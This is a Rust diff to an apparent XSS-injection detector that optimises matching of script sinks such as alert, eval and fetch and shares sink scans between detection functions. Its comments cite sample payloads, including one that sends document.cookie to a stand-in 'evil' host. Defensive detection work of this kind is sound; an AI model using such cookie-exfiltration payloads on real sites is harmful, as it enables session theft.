@@ -98,35 +98,58 @@ pub(super) fn names_sink(word: &[u8]) -> bool {
 }
 
 /// Sinks that may be called directly at the start of a value (no member access needed).
+const DIRECT_SINKS: [&[u8]; 11] = [
+    b"alert",
+    b"prompt",
+    b"confirm",
+    b"eval",
+    b"settimeout",
+    b"setinterval",
+    b"fetch",
+    b"execscript",
+    b"msgbox",
+    b"atob",
+    b"import",
+];
+
+/// Shortest and longest name in [`DIRECT_SINKS`].
+const DIRECT_MIN: usize = 4;
+const DIRECT_MAX: usize = 11;
+
+/// For each name length, a bit per first letter (`a` = bit 0) of the [`DIRECT_SINKS`] of that
+/// length: most identifiers (`span`, `class`, `return`) fail this test before any compare.
+static DIRECT_FIRST: [u32; DIRECT_MAX + 1] = {
+    let mut t = [0u32; DIRECT_MAX + 1];
+    let mut k = 0;
+    while k < DIRECT_SINKS.len() {
+        let n = DIRECT_SINKS[k];
+        t[n.len()] |= 1 << (n[0] - b'a');
+        k += 1;
+    }
+    t
+};
+
+/// Whether `name` (any case) is one of the [`DIRECT_SINKS`]. The table test is inlined into
+/// the identifier scans (it rejects almost every word); the compare is not.
+#[inline(always)]
 fn direct_sink(name: &[u8]) -> bool {
-    if name.len() < 4 || name.len() > 11 {
+    let n = name.len();
+    if !(DIRECT_MIN..=DIRECT_MAX).contains(&n) {
         return false;
     }
-    // first letters of the names below: most words leave here
-    if !matches!(
-        name[0] | 0x20,
-        b'a' | b'p' | b'c' | b'e' | b's' | b'f' | b'm' | b'i'
-    ) {
+    // the sinks are all letters: a first byte that does not fold to a letter leaves
+    let first = name[0] | 0x20;
+    if !first.is_ascii_lowercase() || DIRECT_FIRST[n] & (1 << (first - b'a')) == 0 {
         return false;
     }
-    let mut buf = [0u8; 11];
-    for (d, c) in buf.iter_mut().zip(name) {
-        *d = c.to_ascii_lowercase();
-    }
-    matches!(
-        &buf[..name.len()],
-        b"alert"
-            | b"prompt"
-            | b"confirm"
-            | b"eval"
-            | b"settimeout"
-            | b"setinterval"
-            | b"fetch"
-            | b"execscript"
-            | b"msgbox"
-            | b"atob"
-            | b"import"
-    )
+    is_direct_sink_name(name)
+}
+
+/// The compare behind [`direct_sink`].
+fn is_direct_sink_name(name: &[u8]) -> bool {
+    DIRECT_SINKS
+        .iter()
+        .any(|s| s.len() == name.len() && s.eq_ignore_ascii_case(name))
 }
 
 /// Read an expression head at `i`: `ident(.ident | [..])*` and what ends it. Returns
@@ -272,15 +295,20 @@ fn skip_ws(b: &[u8], mut i: usize) -> usize {
 
 /// A quote (optionally escaped with `\`) followed by an operator or statement separator and
 /// then a call or assignment through a script sink.
-pub fn string_breakout(s: &str) -> bool {
+pub fn string_breakout(s: &str, sinks: &mut Sinks) -> bool {
     let b = s.as_bytes();
     // where direct sinks and cookie reads start, found once for the whole value (when a
     // first window needs them) so that only the windows holding one are examined
-    let mut sinks: Option<Marks> = None;
     let mut cookies: Option<Marks> = None;
-    let mut delimiters = [0usize; MAX_DELIMITERS];
-    let n_delimiters = attribute_delimiters(b, &mut delimiters);
-    let delimiters = &delimiters[..n_delimiters];
+    // (only a value with a `<` opens a tag; the buffer is not even zeroed for the others)
+    let mut store = None;
+    let delimiters: &[usize] = if memchr::memchr(b'<', b).is_some() {
+        let out = store.insert([0usize; MAX_DELIMITERS]);
+        let n = attribute_delimiters(b, out);
+        &out[..n]
+    } else {
+        &[]
+    };
     let mut tried = 0;
     // quotes of each kind (`'`, `"`, backtick) seen so far
     let mut seen = [0usize; 3];
@@ -332,16 +360,16 @@ pub fn string_breakout(s: &str) -> bool {
         }
         let wend = b.len().min(j + 256);
         let window = &b[j..wend];
-        if sinks
-            .get_or_insert_with(|| Marks::new(b, direct_sink_starts))
-            .any_in(j, wend)
-            && code_mentions_sink(window)
-        {
+        if sinks.marks(b).any_in(j, wend) && code_mentions_sink(window) {
             return true;
         }
         // exfiltration: the cookie read into injected code (`'+document.cookie+'`)
         if cookies
-            .get_or_insert_with(|| Marks::new(b, cookie_reads))
+            .get_or_insert_with(|| {
+                let mut m = Marks::new();
+                cookie_reads(b, &mut m);
+                m
+            })
             .any_in(j, wend.saturating_sub(COOKIE.len() - 1))
             && window.len() >= COOKIE.len()
             && window
@@ -384,14 +412,12 @@ struct Marks {
 }
 
 impl Marks {
-    fn new(b: &[u8], find: fn(&[u8], &mut Marks)) -> Marks {
-        let mut m = Marks {
+    fn new() -> Marks {
+        Marks {
             at: [0; MAX_MARKS],
             len: 0,
             overflow: false,
-        };
-        find(b, &mut m);
-        m
+        }
     }
 
     /// Record `p`; false once full (the finder may stop).
@@ -411,24 +437,72 @@ impl Marks {
     }
 }
 
-/// Identifiers that [`code_mentions_sink`] would read as a direct sink: a run of identifier
-/// bytes that does not continue one (`9alert` is one token, not `alert`). A window that
-/// starts at a token boundary holds such a run only if one starts inside it; a run cut by
-/// the window's end has nothing after it and cannot complete a call.
-fn direct_sink_starts(b: &[u8], m: &mut Marks) {
-    let mut i = 0;
-    while i < b.len() {
-        if !is_ident_start(b[i]) || (i > 0 && is_ident(b[i - 1])) {
-            i += 1;
-            continue;
+/// The direct sinks a value names, found in one identifier pass on the first request and
+/// shared by [`string_breakout`] and [`sink_call`], which both look for them in the same
+/// value.
+pub(super) struct Sinks {
+    /// Filled by the first question (the marks are not even zeroed for values that never
+    /// ask).
+    found: Option<FoundSinks>,
+}
+
+struct FoundSinks {
+    /// Some identifier run (as [`code_mentions_sink`] reads a value from its start, where
+    /// `9alert` holds the run `alert`) is a direct sink.
+    any: bool,
+    /// Where the runs that start a token (`9alert` is one token, not `alert`) and are a
+    /// direct sink begin. A window that starts at a token boundary holds such a run only if
+    /// one starts inside it; a run cut by the window's end has nothing after it and cannot
+    /// complete a call.
+    starts: Marks,
+}
+
+impl Sinks {
+    pub(super) fn new() -> Sinks {
+        Sinks { found: None }
+    }
+
+    /// The direct sinks of `b` (always the same value), scanned on the first call.
+    fn found(&mut self, b: &[u8]) -> &FoundSinks {
+        self.found.get_or_insert_with(|| FoundSinks::scan(b))
+    }
+
+    /// Whether an identifier of `b` names a direct sink.
+    fn any(&mut self, b: &[u8]) -> bool {
+        self.found(b).any
+    }
+
+    /// Where the direct sinks of `b` that start a token begin.
+    fn marks(&mut self, b: &[u8]) -> &Marks {
+        &self.found(b).starts
+    }
+}
+
+impl FoundSinks {
+    fn scan(b: &[u8]) -> FoundSinks {
+        let mut f = FoundSinks {
+            any: false,
+            starts: Marks::new(),
+        };
+        let mut i = 0;
+        while i < b.len() {
+            if !is_ident_start(b[i]) {
+                i += 1;
+                continue;
+            }
+            let st = i;
+            while i < b.len() && is_ident(b[i]) {
+                i += 1;
+            }
+            if direct_sink(&b[st..i]) {
+                f.any = true;
+                // once the marks overflow they say "maybe" everywhere: nothing more to learn
+                if (st == 0 || !is_ident(b[st - 1])) && !f.starts.push(st) {
+                    break;
+                }
+            }
         }
-        let st = i;
-        while i < b.len() && is_ident(b[i]) {
-            i += 1;
-        }
-        if direct_sink(&b[st..i]) && !m.push(st) {
-            return;
-        }
+        f
     }
 }
 
@@ -451,15 +525,12 @@ fn cookie_reads(b: &[u8], m: &mut Marks) {
 /// outside any tag of the value and is not affected.
 fn attribute_delimiters(b: &[u8], out: &mut [usize; MAX_DELIMITERS]) -> usize {
     let mut n = 0;
-    if memchr::memchr(b'<', b).is_none() {
-        return 0;
-    }
     let mut i = 0;
     let mut in_tag = false;
     while i < b.len() && n < MAX_DELIMITERS {
         // only `<`, `=` and `>` change anything below: jump to the next one
-        match memchr::memchr3(b'<', b'=', b'>', &b[i..]) {
-            Some(p) => i += p,
+        match next_tag_punct(b, i) {
+            Some(p) => i = p,
             None => break,
         }
         match b[i] {
@@ -468,17 +539,22 @@ fn attribute_delimiters(b: &[u8], out: &mut [usize; MAX_DELIMITERS]) -> usize {
             b'=' if in_tag => {
                 let j = skip_ws(b, i + 1);
                 if let Some(&q @ (b'"' | b'\'')) = b.get(j) {
-                    let Some(close) = memchr::memchr(q, &b[j + 1..]).map(|p| j + 1 + p) else {
-                        break;
-                    };
-                    // a value holding markup or a tag end is not plain markup
-                    if memchr::memchr2(b'<', b'>', &b[j + 1..close]).is_some() {
-                        i = close + 1;
-                        continue;
+                    // the closing quote, noting on the way whether the value holds markup
+                    // or a tag end (then it is not plain markup)
+                    let mut close = j + 1;
+                    let mut markup = false;
+                    while close < b.len() && b[close] != q {
+                        markup |= matches!(b[close], b'<' | b'>');
+                        close += 1;
                     }
-                    out[n] = j;
-                    out[n + 1] = close;
-                    n += 2;
+                    if close == b.len() {
+                        break;
+                    }
+                    if !markup {
+                        out[n] = j;
+                        out[n + 1] = close;
+                        n += 2;
+                    }
                     i = close + 1;
                     continue;
                 }
@@ -489,6 +565,29 @@ fn attribute_delimiters(b: &[u8], out: &mut [usize; MAX_DELIMITERS]) -> usize {
     }
     n
 }
+
+/// Bytes looked at one by one before a search takes over in [`next_tag_punct`].
+const NEAR: usize = 16;
+
+/// The first `<`, `=` or `>` at or after `i`. In markup they come every few bytes, closer
+/// than a dispatched search pays off, so the next [`NEAR`] bytes are looked at first; a
+/// longer run of text is left to `memchr3`.
+fn next_tag_punct(b: &[u8], i: usize) -> Option<usize> {
+    let near = b.len().min(i + NEAR);
+    if let Some(p) = (i..near).find(|&p| TAG_PUNCT[usize::from(b[p])]) {
+        return Some(p);
+    }
+    memchr::memchr3(b'<', b'=', b'>', &b[near..]).map(|p| near + p)
+}
+
+/// `<`, `=` and `>`: the bytes [`attribute_delimiters`] acts on.
+static TAG_PUNCT: [bool; 256] = {
+    let mut t = [false; 256];
+    t[b'<' as usize] = true;
+    t[b'=' as usize] = true;
+    t[b'>' as usize] = true;
+    t
+};
 
 /// Arguments after a direct sink's name (`args` starts at `(`) that make the "call" run
 /// nothing: a dynamic `import()` with no specifier or a Node built-in one (`node:fs`, which
@@ -753,27 +852,6 @@ fn in_code_sample_text(b: &[u8], st: usize) -> bool {
     false
 }
 
-/// Whether some identifier of `b` is a direct sink's name (`alert`, `eval`, `import`…): one
-/// linear pass that lets callers skip [`code_mentions_sink`] on every window of a value that
-/// names none (most prose and markup).
-fn names_direct_sink(b: &[u8]) -> bool {
-    let mut i = 0;
-    while i < b.len() {
-        if !is_ident_start(b[i]) {
-            i += 1;
-            continue;
-        }
-        let st = i;
-        while i < b.len() && is_ident(b[i]) {
-            i += 1;
-        }
-        if direct_sink(&b[st..i]) {
-            return true;
-        }
-    }
-    false
-}
-
 /// Sink mentions per value whose surroundings (code element, uncalled function) are
 /// examined; past that a mention counts as it stands, which bounds the work on a value
 /// crafted with thousands of them.
@@ -863,14 +941,15 @@ fn code_mentions_sink(b: &[u8]) -> bool {
 
 /// The value is itself a script call through a sink: `alert(1)`, `alert`1``,
 /// `document.location='//evil/'+document.cookie`, `top['al'+'ert'](1)`.
-pub fn sink_call(s: &str) -> bool {
+pub fn sink_call(s: &str, sinks: &mut Sinks) -> bool {
     let t = trim_statement_start(s.as_bytes());
     // `A=alert;A(1)`, `(alert)(1)`, `[1].find(alert)`, `a{b:`…alert(1)…`}`: a sink
     // called, bound or passed in code (the value has code punctuation around it)
     let code_like = code_punctuation(s.as_bytes())
         // `with(location)with(hash)eval(…)`: a call right after a parenthesis
         || memchr::memchr_iter(b')', t).any(|p| t.get(p + 1).is_some_and(|&c| is_ident_start(c)));
-    if code_like && names_direct_sink(s.as_bytes()) && code_mentions_sink(s.as_bytes()) {
+    // (a value that names no direct sink, as most prose and markup, skips the mention scan)
+    if code_like && sinks.any(s.as_bytes()) && code_mentions_sink(s.as_bytes()) {
         return true;
     }
     if statement_acts(t) {
@@ -1277,6 +1356,14 @@ pub fn template_injection(s: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn string_breakout(s: &str) -> bool {
+        super::string_breakout(s, &mut Sinks::new())
+    }
+
+    fn sink_call(s: &str) -> bool {
+        super::sink_call(s, &mut Sinks::new())
+    }
 
     #[test]
     fn breakouts() {
